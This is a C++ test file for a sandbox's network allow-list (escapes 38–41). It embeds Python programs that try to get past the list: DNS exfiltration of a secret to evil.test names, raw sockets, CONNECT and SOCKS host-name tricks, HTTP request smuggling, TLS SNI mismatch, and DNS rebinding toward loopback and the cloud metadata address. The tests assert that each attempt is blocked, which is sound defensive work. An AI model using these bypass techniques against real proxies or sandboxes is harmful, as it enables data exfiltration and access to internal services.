// ESCAPES 38–41: out through the network, past a list of hosts.
#include <array>

#include "escape/escape.h"
#include "support/name_server.h"
#include "support/web.h"

namespace pale::test {
namespace {

using testing::HasSubstr;
using testing::Not;

class PastTheList : public Escape {
 protected:
  PastTheList() : Escape(PaleHome::Own) {}
  void configure(const std::string& text) const {
    std::filesystem::create_directories(project_.pale_home());
    std::ofstream(project_.pale_home() / "config.toml") << text;
    give_tree(project_.pale_home(), GetParam());
  }
  Finished python(const std::string& program, const std::string& hosts) const {
    workspace().write("attack.py", program);
    return shell("python3 attack.py", {"--network", hosts});
  }
};

TEST_P(PastTheList, E38NamesAreNoChannel) {
  const NameServer names({127, 0, 0, 1});
  configure("[network]\nresolver = \"127.0.0.1:" + std::to_string(names.port()) + "\"\n");
  const std::string ask =
      "getent hosts the-secret.evil.test; getent hosts the-secret.a.test.evil.test; "
      "python3 -c \"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
      "s.sendto(b'the secret', ('127.0.0.1', " +
      std::to_string(names.port()) + "))\"";
  EXPECT_THAT(shell(ask, {"--network", "none"}).out, Not(HasSubstr("test")));
  EXPECT_THAT(shell(ask, {"--network", "allow:a.test"}).out, Not(HasSubstr("evil")));
  EXPECT_EQ(shell("getent hosts x.b.test", {"--network", "allow:*.b.test"}).exit_code, 0);
  EXPECT_EQ(names.asked(), 0);
}

TEST_P(PastTheList, E39OnlyConnectionsPass) {
  const Finished run = python(R"(
import socket, struct
def attempt(name, what):
    try:
        what()
        print(name, "DONE")
    except OSError as error:
        print(name, "failed", error.errno)
def datagram():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("192.0.2.1", 53)); s.send(b"x")
def stand_in():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1); s.connect(("198.18.0.1", 443)); s.send(b"x"); s.send(b"x"); s.recv(9)
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
def route():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = struct.pack("BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack("HHI", 8, 4, 1)
    s.send(struct.pack("IHHII", 16 + len(body), 24, 0x405, 1, 0) + body)
    answer = s.recv(999)
    code = struct.unpack("i", answer[16:20])[0]
    if code: raise OSError(-code, "refused")
def elsewhere():
    socket.create_connection(("192.0.2.1", 443), 2)
def six():
    socket.create_connection(("2001:db8::1", 443), 2)
for each in [datagram, stand_in, raw, packet, route, elsewhere, six]: attempt(each.__name__, each)
)",
                              "allow:a.test");
  EXPECT_THAT(run.out, HasSubstr("six failed")) << run.err;
  EXPECT_THAT(run.out, Not(HasSubstr("DONE")));
}

constexpr const char* kSpeak = R"(
import socket, ssl, sys, time
def speak(*parts):
    s = socket.create_connection(("127.0.0.1", 911)); s.settimeout(20)
    answers = []
    try:
        for part in parts:
            s.sendall(part); answers.append(s.recv(9999))
        s.settimeout(1)
        while answers[-1]: answers.append(s.recv(9999))
    except OSError: answers.append(b"cut")
    return b" ".join(answers)
def status(answer): return answer.split(b"\r\n")[0]
)";

TEST_P(PastTheList, E40TricksWithNames) {
  const Web web(project_);
  configure(web.config());
  const Finished run = python(std::string(kSpeak) + R"(
for host in [b"plain.test\0.evil.test", b"evilplain.test", b"plain.test.evil.test", b"plain.test%00", b"plain.test@evil.test",
             b"pl\xc3\xa4in.test", b"127.0.0.1", b"0x7f.1", b"2130706433", b"[::1]", b"[::ffff:127.0.0.1]", b"localhost", b".plain.test", b""]:
    print("connect", host, status(speak(b"CONNECT " + host + b":443 HTTP/1.1\r\nHost: x\r\n\r\n")))
    print("socks", host, speak(b"\5\1\0", b"\5\1\0\3" + bytes([len(host)]) + host + b"\0\x50")[2:5])
print("same", status(speak(b"CONNECT PLAIN.Test.:80 HTTP/1.1\r\nHost: x\r\n\r\n")))
get = b"GET /echo HTTP/1.1\r\nHost: "
print("other-host", status(speak(b"GET http://plain.test/echo HTTP/1.1\r\nHost: evil.test\r\n\r\n")))
inside = speak(b"CONNECT plain.test:80 HTTP/1.1\r\nHost: x\r\n\r\n", get + b"plain.test\r\n\r\n", get + b"evil.test\r\n\r\n")
print("first", b"Host=plain.test" in inside, "second", b"another host: evil.test" in inside, "served", b"Host=evil" in inside)
kept = speak(b"GET http://plain.test/echo HTTP/1.1\r\nHost: plain.test\r\n\r\n", b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")
print("kept", b"Host=plain.test" in kept, b"403" in kept)
print("smuggled", status(speak(b"POST http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")))
def tls(server_name, through):
    s = socket.create_connection(through, 20)
    if through[1] == 911:
        s.sendall(b"CONNECT tls.test:443 HTTP/1.1\r\nHost: x\r\n\r\n"); s.recv(999)
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    try:
        t = context.wrap_socket(s, server_hostname=server_name); t.sendall(b"GET /echo HTTP/1.0\r\nHost: a\r\n\r\n")
        return b"200" in t.recv(9999)
    except OSError: return False
for through in [("127.0.0.1", 911), ("tls.test", 443)]:
    print("tls", tls("tls.test", through), tls("api.test", through), tls(None, through))
)",
                              "allow:plain.test,tls.test");
  EXPECT_THAT(run.out, HasSubstr("same b'HTTP/1.1 200")) << run.err;
  std::istringstream lines(run.out);
  for (std::string line; std::getline(lines, line);) {
    if (line.starts_with("connect")) {
      EXPECT_THAT(line, testing::AnyOf(HasSubstr(" 403 "), HasSubstr(" 400 "))) << line;
    }
    if (line.starts_with("socks")) {
      EXPECT_THAT(line, Not(HasSubstr("\\x05\\x00\\x00"))) << line;
    }
  }
  EXPECT_THAT(run.out, HasSubstr("other-host b'HTTP/1.1 403"));
  EXPECT_THAT(run.out, HasSubstr("first True second True served False"));
  EXPECT_THAT(run.out, HasSubstr("kept True True"));
  EXPECT_THAT(run.out, HasSubstr("smuggled b'HTTP/1.1 400"));
  EXPECT_THAT(run.out, HasSubstr("tls True False False\ntls True False False"));
  EXPECT_THAT(web.log(), Not(HasSubstr("evil")));
}

TEST_P(PastTheList, E40RequestsInsideOfRequests) {
  const Web web(project_);
  configure(web.config());
  const std::string port = std::to_string(web.plain_port());
  const Finished run = python(std::string(kSpeak) + R"(
inner = b"GET /echo HTTP/1.1\r\nHost: evil.test\r\n\r\n"
def body(connection, framing, content, method=b"GET"):
    return (method + b" http://plain.test/echo HTTP/1.1\r\nHost: plain.test\r\nConnection: " + connection + b"\r\n" + framing + b"\r\n\r\n" + content)
for method in [b"GET", b"POST"]:
    speak(body(b"content-length", b"Content-Length: %d" % len(inner), inner, method))
speak(body(b"transfer-encoding", b"Transfer-Encoding: chunked", b"%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner)))
print("bare", b"Host=plain.test" in speak(b"GET http://plain.test/echo HTTP/1.0\r\n\r\n"))
def pieces(*parts):
    s = socket.create_connection(("plain.test", )" +
                                  port + R"()); s.settimeout(20)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        for part in parts: s.sendall(part); time.sleep(0.2)
        return s.recv(9999)
    except OSError as error: return str(error).encode()
rest = b"/echo HTTP/1.1\r\nHost: "
print("pieces", status(pieces(b"G", b"ET", b" " + rest + b"evil.test\r\n\r\n")))
print("blank", status(pieces(b"\r\n", b"GET " + rest + b"evil.test\r\n\r\n")))
print("small", status(pieces(b"get " + rest + b"evil.test\r\n\r\n")))
print("fair", status(pieces(b"GE", b"T " + rest + b"plain.test:)" +
                                  port + R"(\r\n\r\n")))
)",
                              "allow:plain.test,plain.test:" + port);
  EXPECT_THAT(run.out, HasSubstr("bare True")) << run.err;
  for (const char* trick : {"pieces", "blank", "small"})
    EXPECT_THAT(run.out, HasSubstr(std::string(trick) + " b'HTTP/1.1 403")) << run.err;
  EXPECT_THAT(run.out, HasSubstr("fair b'HTTP/1.1 200"));
  EXPECT_THAT(web.log(), Not(HasSubstr("evil")));
}

TEST_P(PastTheList, E41NamesThatLeadInwards) {
  const Web web(project_);
  for (const std::array<unsigned char, 4> address :
       {std::array<unsigned char, 4>{127, 0, 0, 1}, {169, 254, 169, 254}, {10, 0, 0, 1}}) {
    const NameServer names(address);
    configure("[network]\nresolver = \"127.0.0.1:" + std::to_string(names.port()) + "\"\n");
    const std::string port = std::to_string(web.plain_port());
    const Finished run = shell("curl -sS -m 9 http://inwards.test:" + port +
                                   "/echo; curl -sS -m 9 --noproxy '*' http://inwards.test:" + port + "/echo; true",
                               {"--network", "allow:inwards.test:" + port});
    EXPECT_THAT(run.out, HasSubstr("which is no address of the internet")) << run.err;
    EXPECT_GE(names.asked(), 1);
  }
  const std::string port = std::to_string(web.plain_port());
  EXPECT_THAT(shell("curl -sS -m 9 --noproxy '' -x http://127.0.0.1:911 http://localhost:" + port + "/echo",
                    {"--network", "allow:localhost:" + port})
                  .out,
              HasSubstr("(loopback)"));
  EXPECT_EQ(web.log(), "");
  // By its number it may be reached: that is what the user said.
  const NameServer names({127, 0, 0, 1});
  configure("[network]\nresolver = \"127.0.0.1:" + std::to_string(names.port()) + "\"\n");
  const Finished meant = shell("curl -sS -m 9 http://inwards.test:" + port + "/echo",
                               {"--network", "allow:inwards.test:" + port + ",127.0.0.1:" + port});
  EXPECT_THAT(meant.out, HasSubstr("GET /echo")) << meant.err;
}

INSTANTIATE_TEST_SUITE_P(, PastTheList, testing::ValuesIn(accounts()), testing::PrintToStringParamName());

}  // namespace
}  // namespace pale::test
